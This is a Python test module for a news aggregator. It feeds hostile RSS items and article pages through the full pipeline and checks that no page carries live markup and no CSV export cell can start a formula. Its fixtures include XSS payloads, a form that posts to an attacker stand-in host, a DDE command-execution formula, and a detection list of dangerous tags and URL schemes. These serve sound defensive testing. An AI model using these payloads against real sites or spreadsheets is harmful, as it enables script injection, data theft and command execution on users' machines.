"""Hostile content from the outside world, end to end (RELIABILITY.md, Web and API): a feed
and its article pages carry script in every field (titles, summaries, content, authors,
links, page HTML), an outlet's configuration carries more (name, labels, country), and titles
start like spreadsheet formulas. The real pipeline polls them, extracts, clusters and
compares; then every page of the web UI is read and parsed, and every CSV export is checked.

test_browser.py plants payloads straight into the database and checks them in Chromium; this
module proves the same for what arrives through fetch -> parse -> extract -> cluster, and runs
the Chromium check too when /usr/bin/chromium is there (marker ``browser``).
"""

from __future__ import annotations

import csv
import html
import io
import os
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import lxml.html
import pytest

from aggregator.clustering import build_cluster_stage
from aggregator.settings import Settings
from aggregator.web.app import create_app
from aggregator.wiring import utc_now
from tests.support.faults import Item, rfc822, rss, story_text
from tests.support.httpserver import LocalServer, serve
from tests.support.moduledb import BACKENDS, module_database
from tests.support.paths import REPO
from tests.support.runtime import runtime
from tests.support.webdata import PAYLOADS
from tests.support.webserver import running

pytest_plugins = ["tests.support.figureplugin"]

FORMULAS = ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tTAB=1+1", "\rCR=1+1", "=cmd|' /C calc'!A0"]  # fmt: skip
MORE = [
    '<svg/onload="window.__xss=20">',
    '<a href="&#106;avascript:window.__xss=21">entity link</a>',
    '<form action="https://evil.example/steal"><input name=p><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=22">',
    '<base href="https://evil.example/">',
    '<math><mi xlink:href="javascript:window.__xss=23">m</mi></math>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<object data="javascript:window.__xss=24"></object><embed src="x.swf">',
]
EVERYTHING = list(PAYLOADS) + MORE
EVIL_NAME = '"><script>window.__xss=30</script>'
HOUR_AGO = datetime.now(UTC) - timedelta(hours=1)


def hostile_page(n: int) -> str:
    """A page whose HTML is hostile and whose text quotes the payloads."""
    quoted = "".join(
        f"<p>Quoted payload {i}: {html.escape(p)}</p>" for i, p in enumerate(EVERYTHING)
    )
    live = "".join(EVERYTHING)
    body = "".join(f"<p>{p}</p>" for p in story_text(f"hostile-{n % 2}"))
    return (
        f"<html><head><title>{EVERYTHING[n % len(EVERYTHING)]}</title>"
        f"<script>window.__xss=40</script><meta name='author' content='{EVIL_NAME}'></head>"
        f"<body onload='window.__xss=41'><article><h1>Harbour {html.escape(PAYLOADS[0])}</h1>"
        f"{body}{quoted}{live}<iframe src='javascript:window.__xss=42'></iframe></article>"
        "</body></html>"
    )


def build(server: LocalServer) -> list[dict[str, Any]]:
    server.route("/robots.txt", "User-agent: *\nAllow: /\n")
    outlets = []
    for o in range(2):
        items = []
        for n in range(4):
            slug = f"o{o}-{n}"
            url = server.route(
                f"/{slug}.html", hostile_page(n), headers={"Content-Type": "text/html"}
            )
            payload = EVERYTHING[(n + o) % len(EVERYTHING)]
            title = f"{FORMULAS[(n + 2 * o) % len(FORMULAS)]} Harbour bridge {payload}"
            summary = f"<p>{PAYLOADS[1]}{PAYLOADS[5]}{MORE[1]}{MORE[2]}</p>"
            items.append(
                Item(
                    title,
                    url,
                    slug,
                    rfc822(HOUR_AGO - timedelta(minutes=n)),
                    summary,
                    content=hostile_page(n),
                )
            )
        items.append(
            Item(
                f"Link {PAYLOADS[3]}",
                "javascript:window.__xss=50",
                f"js-{o}",
                rfc822(HOUR_AGO),
                PAYLOADS[0],
            )
        )
        doc = rss(items, title=EVIL_NAME).replace(
            "<item>", f"<item><author>{html.escape(EVIL_NAME)}</author>", 1
        )
        feed = server.route(f"/feed{o}.xml", doc)
        outlets.append(
            {
                "id": f"evil{o}",
                "name": (EVIL_NAME if o else FORMULAS[0]),
                "feeds": [feed],
                "language": "en",
                "country": PAYLOADS[2][:40],
                "homepage": f"https://evil.example/?q={PAYLOADS[0]}",
                "labels": {"ownership": PAYLOADS[0], "note": FORMULAS[1], "source": PAYLOADS[3]},
            }
        )
    return outlets


@dataclass
class Hostile:
    base: str
    pages: dict[str, str]  # path -> HTML
    exports: dict[str, bytes]  # table -> CSV
    cli_exports: dict[str, bytes]
    articles: int


PAGES = ["/", "/outlets", "/audit", "/docs", "/login", "/?q=<script>window.__xss=60</script>",
         f"/?outlet={EVIL_NAME}", "/login?next=javascript:window.__xss=61",
         "/nothing/%3Cscript%3Ewindow.__xss=62%3C/script%3E", "/clusters/999999"]  # fmt: skip
TABLES = ("articles", "clusters", "memberships", "comparisons")


@pytest.fixture(scope="module", params=BACKENDS)
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    with (
        module_database(request, folder) as db_url,
        serve("127.0.0.1") as server,
        runtime(db_url, build(server)) as rt,
    ):
        rt.pipeline.run_once(include_not_due=True)
        clusterer = build_cluster_stage(rt.settings, rt.store, clock=utc_now)
        while clusterer.run(500):
            pass
        while clusterer.refresh(500):
            pass
        articles = rt.store.articles.count()
        app = create_app(Settings(), rt.store)
        with running(app) as base, httpx.Client(base_url=base, timeout=60) as client:
            clusters = [
                c["id"] for c in client.get("/api/clusters", params={"limit": 100}).json()["items"]
            ]
            ids = [
                a["id"] for a in client.get("/api/articles", params={"limit": 100}).json()["items"]
            ]
            paths = PAGES + [f"/clusters/{c}" for c in clusters] + [f"/articles/{a}" for a in ids]
            pages = {p: client.get(p).text for p in paths}
            exports = {t: client.get(f"/api/exports/{t}.csv").content for t in TABLES}
            cli = {}
            for table in TABLES:
                out = folder / f"{table}.csv"
                run_export(db_url, out, table)
                cli[table] = out.read_bytes()
            yield Hostile(base, pages, exports, cli, articles)


def run_export(db_url: str, out: Path, table: str) -> None:
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if not k.startswith("NEWSAGG_")}
    env.update({"NEWSAGG_DATABASE_URL": db_url, "PYTHONPATH": str(REPO),
                "NEWSAGG_LEXICONS": str(REPO / "config" / "lexicons.toml")})  # fmt: skip
    done = subprocess.run(
        [sys.executable, "-m", "aggregator", "export", table, "--format", "csv", "--out", str(out)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]


SCHEMES = ("javascript:", "data:", "vbscript:")
URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "background", "poster")
# the app draws its sparklines as inline SVG and uses an empty "data:," favicon; nothing else
DANGEROUS = ("script", "iframe", "object", "embed", "img", "math", "base", "style", "frame",
             "foreignobject", "animate", "set", "use")  # fmt: skip


def live_markup(html: str) -> list[str]:
    """What in a page could run or leave the site: elements, handlers, URLs, refreshes."""
    tree = lxml.html.fromstring(html)
    found = [
        f"<{el.tag}>"
        for el in tree.iter()
        if isinstance(el.tag, str) and el.tag.lower() in DANGEROUS
    ]
    for el in tree.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            lowered = "".join(value.split()).lower()
            if name.lower().startswith("on"):
                found.append(f"{el.tag} {name}")
            if name.lower() in URL_ATTRS and lowered.startswith(SCHEMES) and lowered != "data:,":
                found.append(f"{el.tag} {name}={value[:40]}")
        if el.tag == "meta" and el.get("http-equiv", "").lower() == "refresh":
            found.append("meta refresh")
        if el.tag == "form" and not (el.get("action") or "/").startswith("/"):
            found.append(f"form action={el.get('action')}")
        if (
            el.tag == "link"
            and el.get("rel") == "stylesheet"
            and not el.get("href", "").startswith("/")
        ):
            found.append(f"stylesheet {el.get('href')}")
    return found


def test_the_hostile_feeds_went_all_the_way_through(hostile: Hostile) -> None:
    assert hostile.articles == 10
    stories = [p for p in hostile.pages if p.startswith("/clusters/") and p != "/clusters/999999"]
    assert stories and len([p for p in hostile.pages if p.startswith("/articles/")]) == 10
    text = " ".join(hostile.pages.values())
    assert "Harbour bridge" in text and "window.__xss" in text  # payloads are shown, as text


def test_no_page_carries_live_markup_from_the_outside(hostile: Hostile) -> None:
    """Row: script in titles, summaries, article HTML, outlet names."""
    bad = {path: found for path, html in hostile.pages.items() if (found := live_markup(html))}
    assert bad == {}


@pytest.mark.parametrize("table", TABLES)
def test_no_csv_cell_of_any_export_can_start_a_formula(hostile: Hostile, table: str) -> None:
    """Row: CSV export cells starting with = + - @ tab or CR (over HTTP and from the CLI)."""
    checked = 0
    for source in (hostile.exports[table], hostile.cli_exports[table]):
        rows = list(csv.reader(io.StringIO(source.decode("utf-8"), newline="")))
        assert rows, table
        for row in rows[1:]:
            for cell in row:
                checked += 1
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(cell):
                    pytest.fail(f"{table}: a cell starts a formula: {cell[:60]!r}")
    assert checked > 0
    if table == "articles":
        titles = hostile.exports[table].decode()
        assert "'=HYPERLINK" in titles and "'+1+1" in titles  # prefixed, not dropped


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.browser
def test_nothing_planted_through_the_pipeline_runs_in_chromium(hostile: Hostile) -> None:
    if not CHROMIUM.exists():
        if os.environ.get("CI") == "true":
            pytest.fail("/usr/bin/chromium is required under CI=true")
        pytest.skip("/usr/bin/chromium is not installed")
    from playwright.sync_api import sync_playwright

    dialogs: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"], headless=True
        )
        try:
            page = browser.new_page()
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            probe = browser.new_page()
            probe.set_content('<img src="x" onerror="window.__xss = 1">')
            probe.wait_for_function("window.__xss === 1")  # the detector works unprotected
            for path in hostile.pages:
                page.goto(hostile.base + path)
                page.wait_for_load_state("load")
                assert page.evaluate("window.__xss") is None, path
        finally:
            browser.close()
    assert dialogs == []
